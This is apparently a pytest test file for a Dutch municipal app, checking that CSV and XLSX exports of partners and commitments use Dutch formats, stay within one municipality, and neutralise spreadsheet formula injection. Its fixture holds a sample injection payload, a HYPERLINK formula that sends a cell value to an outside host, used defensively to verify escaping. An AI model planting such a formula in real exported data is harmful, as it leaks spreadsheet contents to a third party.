"""Exports of partners and commitments: CSV for Dutch Excel, XLSX, and no formula injection."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from gemeenten.exports import csv_response, safe_text, xlsx_response
from gemeenten.models import Organisatie, Proeftuin
from kern.tenancy import gemeente_scope
from tests.factories import BaatFactory, CommitmentFactory, KerngroeplidFactory, OrganisatieFactory
from tests.scopes import every_gemeente
from tests.urls import url

EVIL = '=HYPERLINK("http://example.org/?x="&A1,"klik")'


def parse_csv(response):
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def open_xlsx(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


@pytest.fixture
def data(gemeente_a):
    with every_gemeente():
        proeftuin = Proeftuin.objects.get(gemeente=gemeente_a)
        welzijn = Organisatie.objects.get(gemeente=gemeente_a, naam="Welzijn A")
        welzijn.contactpersoon_naam = "Özlem Çelik"
        welzijn.save()
        boos = OrganisatieFactory(
            gemeente=gemeente_a, naam=EVIL, contactpersoon_naam="+31 6 12345678"
        )
        KerngroeplidFactory(gemeente=gemeente_a, organisatie=welzijn, naam="@kees")
        c = CommitmentFactory(
            gemeente=gemeente_a,
            proeftuin=proeftuin,
            organisatie=boos,
            soort="geld",
            uren_per_jaar=None,
            bedrag=Decimal("1234.50"),
            omschrijving='-2+3; of "meer"\nmet een nieuwe regel\x07',
        )
        BaatFactory(gemeente=gemeente_a, commitment=c, organisatie=welzijn)
    return welzijn, boos


def test_safe_text_puts_an_apostrophe_before_formula_starts():
    for risky in ("=1+1", "+31", "-5", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_text(risky) == "'" + risky
    assert safe_text("Welzijn = goed") == "Welzijn = goed"
    assert safe_text(None) == ""


def test_a_moment_is_written_in_dutch_time_in_csv_and_xlsx():
    # 23:15 UTC on 31 December 2026 is 00:15 on 1 January 2027 in the Netherlands (winter time).
    moment = datetime.datetime(2026, 12, 31, 23, 15, tzinfo=datetime.UTC)
    rows = parse_csv(csv_response(["Op"], [[moment]], name="x.csv"))
    assert rows[1] == ["2027-01-01 00:15"]
    cells = open_xlsx(xlsx_response(["Op"], [[moment]], name="x.xlsx", title="x"))
    assert cells[1] == [datetime.datetime(2027, 1, 1, 0, 15)]


def test_the_partner_csv_is_semicolon_separated_utf8_with_bom(client, member, gemeente_a, data):
    client.force_login(member)
    response = client.get(url("partners_csv", gemeente_a))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="gemeente-a-partners-')
    assert disposition.endswith('.csv"')
    rows = parse_csv(response)
    assert rows[0][:3] == ["Naam", "Soort", "Domein"]
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["Welzijn A"][3] == "Özlem Çelik"
    assert by_name["Welzijn A"][5] == "'@kees"
    assert by_name["'" + EVIL][3] == "'+31 6 12345678"
    assert EVIL not in by_name  # never a bare formula


def test_the_commitment_csv_keeps_text_whole_and_numbers_dutch(client, member, gemeente_a, data):
    client.force_login(member)
    response = client.get(url("commitments_csv", gemeente_a))
    assert response.status_code == 200
    header, row = parse_csv(response)
    record = dict(zip(header, row, strict=True))
    assert record["Organisatie"] == "'" + EVIL
    assert record["Omschrijving"] == '\'-2+3; of "meer"\nmet een nieuwe regel\x07'
    assert record["Bedrag (euro)"] == "1234,50"
    assert record["Uren per jaar"] == ""
    assert record["Wie heeft er baat bij"] == "Welzijn A"
    assert record["Status"] == "Toegezegd"


def test_the_xlsx_exports_open_in_openpyxl_without_formulas(client, member, gemeente_a, data):
    client.force_login(member)
    response = client.get(url("partners_xlsx", gemeente_a))
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = open_xlsx(response)
    assert rows[0][0] == "Naam"
    names = [r[0] for r in rows[1:]]
    assert "'" + EVIL in names
    assert all(not str(v).startswith("=") for r in rows for v in r if v is not None)

    response = client.get(url("commitments_xlsx", gemeente_a))
    header, row = open_xlsx(response)
    record = dict(zip(header, row, strict=True))
    assert record["Bedrag (euro)"] == 1234.5
    assert record["Organisatie"] == "'" + EVIL
    assert "\x07" not in record["Omschrijving"]  # control characters dropped, not a 500
    assert record["Toegezegd op"] is not None


def test_a_bestuurder_may_export_but_an_outsider_gets_404(
    client, readonly_member, outsider, gemeente_a, data
):
    for name in ("partners_csv", "partners_xlsx", "commitments_csv", "commitments_xlsx"):
        client.force_login(readonly_member)
        assert client.get(url(name, gemeente_a)).status_code == 200
        client.force_login(outsider)
        response = client.get(url(name, gemeente_a))
        assert response.status_code == 404
        assert b"Welzijn" not in response.content


def test_the_export_holds_only_the_own_gemeente(client, member, gemeente_a, gemeente_b, data):
    client.force_login(member)
    body = client.get(url("partners_csv", gemeente_a)).content.decode("utf-8-sig")
    assert "Geheime organisatie B" not in body
    with gemeente_scope(gemeente_a):
        assert Organisatie.objects.count() == 2
